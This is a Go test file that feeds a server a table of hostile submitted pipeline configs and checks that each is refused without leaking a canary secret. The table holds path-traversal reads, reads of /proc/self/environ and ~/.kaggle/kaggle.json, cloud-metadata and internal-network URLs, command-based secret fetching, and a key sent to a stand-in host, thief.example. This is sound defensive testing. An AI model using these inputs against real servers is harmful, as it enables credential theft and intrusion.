package main

import (
	"bytes"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mleflow/mleflow/cache/disk"
	"github.com/mleflow/mleflow/cmd/mleflow/internal/submitted"
)

// canary is in a file of the machine and in the server's environment.
var canary = strings.Join([]string{"canary", "3f9a61c2"}, "-") // the program itself does not have it

// solve is an attempt up to the arguments of its agent-run step.
const solve = `
step "download" "raw" { competition = "demo-digits" }
step "prepare" "data" {
  competition = "demo-digits"
  raw         = step.download.raw.tree
}
step "agent-run" "solve" {
  competition = "demo-digits"
  data        = step.prepare.data.public
  agent       = agent.a
`

// hostile are pipelines that want more of the server than their own folder. PATH stands
// for a file of the machine, and FOLDER for the folder with it.
var hostile = []struct {
	name, text string
	// files are further files of the submission.
	files map[string]string
	want  string
}{
	{name: "file", text: `output "x" { value = file("PATH") }`, want: "a submitted pipeline"},
	{name: "file above", text: `output "x" { value = file("../rules.json") }`, want: "a submitted pipeline"},
	{name: "file far above", text: `output "x" { value = file("../../../../../../../../etc/hostname") }`, want: "a submitted pipeline"},
	{name: "file by its digest", text: `output "x" { value = filesha256("PATH") }`, want: ""},
	{name: "dir", text: `output "x" { value = dir("FOLDER") }`, want: "a submitted pipeline"},
	{name: "fileset", text: `output "x" { value = fileset("FOLDER", "**") }`, want: "a submitted pipeline"},
	{name: "fileset pattern", text: `output "x" { value = fileset(".", "../../**") }`, want: ""},
	{name: "templatefile", text: `output "x" { value = templatefile("PATH", {}) }`, want: ""},
	{name: "path.pipeline", text: `output "x" { value = file("${path.pipeline}/../rules.json") }`, want: "a submitted pipeline"},
	{name: "home", text: `output "x" { value = file("~/.kaggle/kaggle.json") }`, want: "no ~/.kaggle"},
	{name: "proc", text: `output "x" { value = file("/proc/self/environ") }`, want: "a submitted pipeline"},
	{name: "extends", text: `mleflow { extends = "../../x.hcl" }`, want: "a submitted pipeline"},
	{name: "include above", text: `mleflow { include = ["../*.hcl"] }`, want: "a submitted pipeline"},
	{name: "module", text: `module "m" { source = "../" }`, want: "a submitted pipeline"},
	{name: "module file", text: `module "m" { source = "../../x.hcl" }`, want: "a submitted pipeline"},
	{name: "file of a module", text: `module "m" { source = "./m.hcl" }`, files: map[string]string{"m.hcl": `locals { x = jsondecode(file("${path.module}/../rules.json")) }`}, want: "a submitted pipeline"},
	{name: "exec of a module", text: `module "m" { source = "./m.hcl" }`, files: map[string]string{"m.hcl": `step "exec" "x" { command = ["cat", "PATH"] }`}, want: "has no steps of kind exec"},
	{name: "publish of a module", text: `module "m" { source = "./m.hcl" }`, files: map[string]string{"m.hcl": `step "download" "raw" {
  competition = "demo-digits"
  publish {
    to      = "written"
    private = true
  }
}`}, want: "writes no files of the server"},
	{name: "include", text: `mleflow { include = ["FOLDER/*.hcl"] }`, want: "include"},
	{name: "competitions", text: `mleflow { competitions = ["FOLDER"] }`, want: "a submitted pipeline"},
	{name: "remote cache", text: `mleflow { remote_cache = "file://FOLDER" }`, want: "server's remote cache"},
	{name: "publish", text: `output "x" {
  value = "y"
  publish { to = "FOLDER/written" }
}`, want: "writes no files of the server"},
	{name: "publish below", text: `output "x" {
  value = "y"
  publish { to = "written" }
}`, want: "writes no files of the server"},
	{name: "notify", text: `notify "server" { on = ["failed"] }
output "x" { value = "y" }`, want: "does not use the receivers"},
	{name: "exec", text: `step "exec" "x" { command = ["cat", "PATH"] }`, want: "has no steps of kind exec"},
	{name: "exec files", text: `step "exec" "x" {
  command = ["true"]
  files   = { "x" = "PATH" }
}`, want: "a submitted pipeline"},
	{name: "download from", text: `step "download" "x" {
  competition = "demo-digits"
  from        = "PATH"
}`, want: "a submitted pipeline"},
	{name: "download from what is not known yet", text: solve + `}
step "download" "x" {
  competition = "demo-digits"
  from        = step.agent-run.solve.outcome
}
agent "a" { command = ["mleflow", "agent", "dummy"] }`, want: ""},
	{name: "download source", text: `step "download" "x" {
  competition = "demo-digits"
  source {
    kind = "file"
    path = "PATH"
  }
}`, want: "a submitted pipeline"},
	{name: "download reference", text: `step "download" "x" {
  competition = "demo-digits"
  source {
    kind = "reference"
    path = "FOLDER"
  }
}`, want: "a submitted pipeline"},
	{name: "download mirror", text: `step "download" "x" {
  competition = "demo-digits"
  source {
    kind = "mirror"
    url  = "FOLDER"
    slug = "x"
  }
}`, want: "http and https only"},
	{name: "download bucket", text: `step "download" "x" {
  competition = "demo-digits"
  source {
    kind = "mirror"
    url  = "s3://bucket/x"
    slug = "x"
  }
}`, want: "http and https only"},
	{name: "download of the machine's services", text: `step "download" "x" {
  competition = "demo-digits"
  source {
    kind = "http"
    url  = "http://169.254.169.254/latest/meta-data/iam"
  }
}`, want: "the server's own network"},
	{name: "download of the local network", text: `step "download" "x" {
  competition = "demo-digits"
  source {
    kind = "http"
    url  = "http://localhost:9/x"
  }
}`, want: "the server's own network"},
	{name: "task", text: `step "task" "x" {
  competition = "demo-digits"
  task        = "reference"
  from        = "FOLDER"
}`, want: "a submitted pipeline"},
	{name: "checksum", text: `step "download" "raw" { competition = "demo-digits" }
step "prepare" "data" {
  competition = "demo-digits"
  raw         = step.download.raw.tree
}
step "checksum" "x" {
  competition  = "demo-digits"
  prepared     = step.prepare.data
  expected_dir = "FOLDER"
}`, want: "a submitted pipeline"},
	{name: "image files", text: `step "image" "x" { files = { "/x" = "PATH" } }`, want: "a submitted pipeline"},
	{name: "image base", text: `step "image" "x" { base = "FOLDER" }`, want: "a submitted pipeline"},
	{name: "image of the server", text: `step "image" "x" { base = "local:theirs@sha256:` + strings.Repeat("a", 64) + `" }`, want: "an image of the server"},
	{name: "image of the local network", text: `step "image" "x" { base = "localhost:5000/theirs@sha256:` + strings.Repeat("a", 64) + `" }`, want: "the server's own network"},
	{name: "image network", text: `step "image" "x" {
  base = "busybox@sha256:` + strings.Repeat("a", 64) + `"
  run  = [["true"]]
  network { open = true }
}`, want: "the server's own network"},
	{name: "python environment", text: `step "python" "x" { venv = "FOLDER" }`, want: "no environment of the server"},
	{name: "python requirements", text: `step "python" "x" { requirements = file("PATH") }`, want: "a submitted pipeline"},
	{name: "python index", text: `step "python" "x" { requirements = file("requirements.txt") }`, files: map[string]string{"requirements.txt": "--index-url http://pypi.internal/simple\nnumpy==2.0.0\n"}, want: "the server's own network"},
	{name: "agent files", text: solve + `}
agent "a" {
  command = ["sh", "-c", "cat x"]
  files   = { "x" = "PATH" }
}`, want: "a submitted pipeline"},
	{name: "agent image", text: solve + `
  runtime = "sandbox"
}
agent "a" {
  command = ["true"]
  image   = "FOLDER"
}`, want: "a submitted pipeline"},
	{name: "agent python", text: solve + `}
agent "a" {
  command = ["python", "x.py"]
  python { venv = "FOLDER" }
}`, want: "no environment of the server"},
	{name: "runtime process", text: solve + `
  runtime = "process"
}
agent "a" { command = ["cat", "PATH"] }`, want: "must be isolated"},
	{name: "capabilities", text: solve + `
  runtime      = "sandbox"
  capabilities = ["CAP_SYS_ADMIN"]
}
agent "a" { command = ["true"] }`, want: "no capabilities"},
	{name: "network open", text: solve + `
  runtime = "sandbox"
  network { open = true }
}
agent "a" { command = ["true"] }`, want: "the server's own network"},
	{name: "network address", text: solve + `
  runtime = "sandbox"
  network { allow = ["10.0.0.1:22"] }
}
agent "a" { command = ["true"] }`, want: "the server's own network"},
	{name: "network name", text: solve + `
  runtime = "sandbox"
  network { allow = ["db.internal:5432"] }
}
agent "a" { command = ["true"] }`, want: "the server's own network"},
	{name: "secret of the environment", text: solve + `
  runtime = "sandbox"
}
agent "a" {
  command = ["env"]
  secrets = { X = "env:SERVER_TOKEN" }
}`, want: "no secret SERVER_TOKEN"},
	{name: "secret of a file", text: solve + `
  runtime = "sandbox"
}
agent "a" {
  command = ["env"]
  secrets = { X = "file:PATH" }
}`, want: "not as files or commands"},
	{name: "secret of a command", text: solve + `
  runtime = "sandbox"
}
agent "a" {
  command = ["env"]
  secrets = { X = "command:cat PATH" }
}`, want: "not as files or commands"},
	{name: "key of a model", text: solve + `
  runtime = "sandbox"
}
model "m" {
  provider = "openai"
  key      = "file:PATH"
  models   = ["gpt-5"]
}
agent "a" {
  command = ["true"]
  models  = [model.m]
}`, want: "not as files or commands"},
	{name: "address of a model", text: solve + `
  runtime = "sandbox"
}
model "m" {
  provider = "openai"
  key      = "env:ALLOWED"
  base_url = "https://thief.example/v1"
  models   = ["gpt-5"]
}
agent "a" {
  command = ["true"]
  models  = [model.m]
}`, want: "has not allowed thief.example:443"},
	{name: "recording", text: solve + `
  runtime = "sandbox"
}
model "m" {
  provider = "openai"
  models   = ["gpt-5"]
  replay   = "FOLDER"
}
agent "a" {
  command = ["true"]
  models  = [model.m]
}`, want: "a submitted pipeline"},
	{name: "data of a competition", text: `mleflow { competitions = ["mine"] }
step "download" "x" { competition = "mine" }`, files: map[string]string{"mine/competition.hcl": `
competition "mine" {
  source "file" { path = "PATH" }
}
`}, want: ""},
}

// TestSubmittedPipelines tries what a stranger's pipeline may not do, each by the process
// of a server. Nothing of the machine may be in what it prints, or in its cache.
func TestSubmittedPipelines(t *testing.T) {
	program, err := exec.LookPath("mleflow")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range hostile {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			outside, cache := t.TempDir(), t.TempDir()
			path := filepath.Join(outside, "secret.hcl")
			fill := strings.NewReplacer("PATH", path, "FOLDER", outside)
			write(t, path, "# "+canary+"\n")
			if c, err := disk.Open(cache, disk.Options{}); err != nil || c.Close() != nil {
				t.Fatal(err)
			}
			place := submitted.Place(filepath.Join(cache, "service", "queue", "x"))
			if err := os.MkdirAll(place.Folder(), 0o700); err != nil {
				t.Fatal(err)
			}
			write(t, filepath.Join(place.Folder(), "p.hcl"), fill.Replace(c.text))
			for name, text := range c.files {
				write(t, filepath.Join(place.Folder(), name), fill.Replace(text))
			}
			if err := place.Prepare(submitted.Rules{Secrets: []string{"ALLOWED"}}); err != nil {
				t.Fatal(err)
			}
			cmd := exec.Command(program, "apply", "--cache-dir="+cache, "--", "p.hcl")
			cmd.Dir = place.Folder()
			cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir(), "ALLOWED=x", "SERVER_TOKEN=" + canary, submitted.Variable + "=" + string(place)}
			out, err := cmd.CombinedOutput()
			words := strings.Join(strings.Fields(strings.NewReplacer("│", " ", "╷", " ", "╵", " ").Replace(string(out))), " ")
			if err == nil || !strings.Contains(words, c.want) {
				t.Errorf("%v, want %q:\n%s", err, c.want, out)
			}
			if exit, ended := place.Exit(); !ended || exit == 0 {
				t.Errorf("exit status %d, %t", exit, ended)
			}
			if bytes.Contains(out, []byte(canary)) {
				t.Errorf("it read the machine:\n%s", out)
			}
			noCanary(t, cache)
			if list, _ := os.ReadDir(outside); len(list) != 1 {
				t.Errorf("it wrote to the machine: %v", list)
			}
		})
	}
}

func write(t *testing.T, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

// noCanary looks for the canary in all files of a folder.
func noCanary(t *testing.T, dir string) {
	t.Helper()
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		text, err := os.ReadFile(path)
		if bytes.Contains(text, []byte(canary)) {
			t.Errorf("%s has what is the machine's", path)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}
